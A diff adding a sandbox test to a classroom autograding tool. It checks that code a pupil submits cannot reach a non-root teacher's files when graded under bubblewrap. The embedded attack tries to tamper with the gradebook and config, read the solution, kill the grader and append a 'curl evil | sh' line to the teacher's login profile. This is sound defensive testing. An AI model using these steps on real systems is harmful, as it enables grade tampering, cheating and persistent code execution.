@@ -8,6 +8,7 @@ that no process of a pupil survives grading.
 from __future__ import annotations
 
 import hashlib
+import os
 import textwrap
 from pathlib import Path
 
@@ -272,3 +273,177 @@ def test_without_isolation_a_worker_killed_by_a_pupil_is_replaced_and_named(
     assert "mallory" not in scores or not any(scores["mallory"].values())
     assert "arrêté le processus qui le corrigeait" in summary
     assert summary.startswith("Attention : le code des élèves s'exécute avec vos droits")
+
+
+# --- a teacher account (not root): the bubblewrap sandbox alone ---------------------------
+
+#: A Python environment that an unprivileged account can run (made by .ci/run for the hub test).
+READABLE_PYTHON = (
+    Path(os.environ.get("EDUIA_HUB_TEST_PREFIX", "/opt/eduia-hub-test")) / "bin/python"
+)
+
+#: What a pupil tries from a cell when the teacher (not root) grades: every attempt must fail.
+TEACHER_ACCOUNT_ATTACK = """
+import os, socket, sqlite3, time
+def attempt(action):
+    try:
+        action()
+    except Exception as error:
+        print('bloqué', type(error).__name__)
+    else:
+        print('réussi', action)
+def rewrite_gradebook(path):
+    db = sqlite3.connect(path)
+    db.execute("update grade set auto_score = 0")
+    db.commit()
+attempt(lambda: open({config!r}, 'a').write('\\nimport os\\n'))
+attempt(lambda: rewrite_gradebook({gradebook!r}))
+attempt(lambda: open({other!r}, 'w').write('{{}}'))
+attempt(lambda: open({profile!r}, 'a').write('\\ncurl evil | sh\\n'))
+attempt(lambda: print(open({solution!r}).read()))
+attempt(lambda: print(open({source!r}).read()[:200]))
+attempt(lambda: socket.create_connection(('127.0.0.1', {port}), timeout=1))
+attempt(lambda: os.kill({grader}, 9))
+if os.fork() == 0:  # a grandchild in a session of its own, to act after grading
+    os.setsid()
+    if os.fork():
+        os._exit(0)
+    time.sleep(1)
+    attempt(lambda: open({config!r}, 'a').write('# late'))
+    time.sleep(600)
+    os._exit(0)
+time.sleep(0.3)
+"""
+
+GRADE_AS_TEACHER = """
+import json, sys
+from eduia.course.grading import autograde
+report = autograde(sys.argv[1], "demo", jobs=1)
+print(json.dumps({
+    "protection": report.protection,
+    "scores": {r.student: r.score for r in report.results},
+    "issues": {r.student: [i.code for i in r.issues] for r in report.results},
+    "summary": report.summary_lines("fr"),
+}))
+"""
+
+
+def _teacher_account_missing() -> str | None:
+    import shutil
+
+    if not shutil.which("bwrap"):
+        return "bubblewrap (bwrap) is not installed: apt-get install bubblewrap"
+    if os.geteuid() != 0 or not shutil.which("useradd") or not shutil.which("runuser"):
+        return "creating a teacher account needs root, useradd and runuser"
+    if not READABLE_PYTHON.exists():
+        return f"no Python environment readable by other accounts in {READABLE_PYTHON.parent.parent} (.ci/run makes it)"
+    return None
+
+
+def test_a_teacher_account_grades_hostile_code_in_a_bubblewrap_sandbox() -> None:
+    """Graded by a teacher who is not root, a pupil's code reaches nothing of the teacher's."""
+    import json
+    import pwd
+    import secrets
+    import shutil
+    import socket
+    import subprocess
+    import tempfile
+
+    from course_simulation import DEMO_LESSON
+
+    reason = _teacher_account_missing()
+    if reason:
+        pytest.skip(reason)
+    teacher = f"eduiaprof{secrets.token_hex(3)}"
+    subprocess.run(["useradd", "-m", "-s", "/bin/sh", teacher], check=True, capture_output=True)
+    base = Path(tempfile.mkdtemp(prefix="eduia-teacher-", dir="/tmp"))
+    listener = socket.create_server(("127.0.0.1", 0))
+    try:
+        account = pwd.getpwnam(teacher)
+        profile = Path(account.pw_dir) / ".profile"
+        profile.write_text("# le profil de l'enseignant\n", encoding="utf-8")
+        # eduia as it is in this checkout, and a teacher package with a solution in it
+        shutil.copytree(
+            Path(isolation.__file__).parents[1],
+            base / "pylib" / "eduia",
+            ignore=shutil.ignore_patterns("__pycache__"),
+        )
+        package = base / "enseignant" / "eduia_enseignant"
+        (package / "notebooks" / "source" / "demo").mkdir(parents=True)
+        shutil.copyfile(
+            Path(__file__).parents[1] / "packaging/enseignant/src/eduia_enseignant/__init__.py",
+            package / "__init__.py",
+        )
+        solution = package / "notebooks" / "source" / "demo" / "corrige.txt"
+        solution.write_text("SOLUTION_SECRETE_42", encoding="utf-8")
+        course = _course(base)
+        for name, behaviour in (("ana", "correct"), ("teo", "partial")):
+            _hand_in(course, name, behaviour)
+        config, gradebook = course / "nbgrader_config.py", course / "gradebook.db"
+        other = course / "submitted" / "ana" / DEMO_LESSON / f"{DEMO_LESSON}.ipynb"
+        attack = TEACHER_ACCOUNT_ATTACK.format(
+            config=str(config),
+            gradebook=str(gradebook),
+            other=str(other),
+            profile=str(profile),
+            solution=str(solution),
+            source=str(course / "source" / DEMO_LESSON / f"{DEMO_LESSON}.ipynb"),
+            port=listener.getsockname()[1],
+            grader=os.getpid(),
+        )
+        _hand_in(course, "mallory", "correct", attack)
+        subprocess.run(["chown", "-R", f"{teacher}:{teacher}", str(base)], check=True)
+        os.chmod(base, 0o755)
+        before = {path: _digest(path) for path in (config, other, profile, solution)}
+
+        done = subprocess.run(
+            [
+                shutil.which("runuser") or "/usr/sbin/runuser",
+                "-u",
+                teacher,
+                "--",
+                str(READABLE_PYTHON),
+                "-c",
+                GRADE_AS_TEACHER,
+                str(course),
+            ],
+            capture_output=True,
+            text=True,
+            timeout=120,
+            check=False,
+            env={
+                "PATH": "/usr/bin:/bin",
+                "HOME": account.pw_dir,
+                "LANG": "C.UTF-8",
+                "PYTHONPATH": f"{base / 'pylib'}:{base / 'enseignant'}",
+            },
+        )
+        assert done.returncode == 0, done.stderr[-3000:]
+        report = json.loads(done.stdout.strip().splitlines()[-1])
+        assert report["protection"] == "bwrap"
+        assert report["summary"][0].startswith("Isolement : chaque copie est corrigée dans un bac")
+        assert report["scores"] == {"ana": 6.0, "teo": 2.0, "mallory": 6.0}
+        assert report["issues"]["ana"] == report["issues"]["teo"] == []
+        assert report["issues"]["mallory"] == ["lingering_processes"]  # no tampering seen
+        assert isolation.processes_of(account.pw_uid) == []  # the grandchild died with the kernel
+        assert _scores(course)["ana"] == {
+            "q1-tests": 2.0,
+            "q2-tests": 3.0,
+            "q3-tests": 1.0,
+            "reponse": None,
+        }
+        assert {path: _digest(path) for path in before} == before
+        graded = nbformat.read(
+            course / "autograded" / "mallory" / DEMO_LESSON / f"{DEMO_LESSON}.ipynb", 4
+        )
+        printed = "".join(
+            o.get("text", "") for c in graded.cells if c.cell_type == "code" for o in c.outputs
+        )
+        assert printed.count("bloqué") == 8 and "réussi" not in printed, printed
+        assert "SOLUTION_SECRETE_42" not in printed and "BEGIN SOLUTION" not in printed
+    finally:
+        listener.close()
+        isolation.end_processes(pwd.getpwnam(teacher).pw_uid)
+        subprocess.run(["userdel", "-r", teacher], capture_output=True, check=False)
+        shutil.rmtree(base, ignore_errors=True)
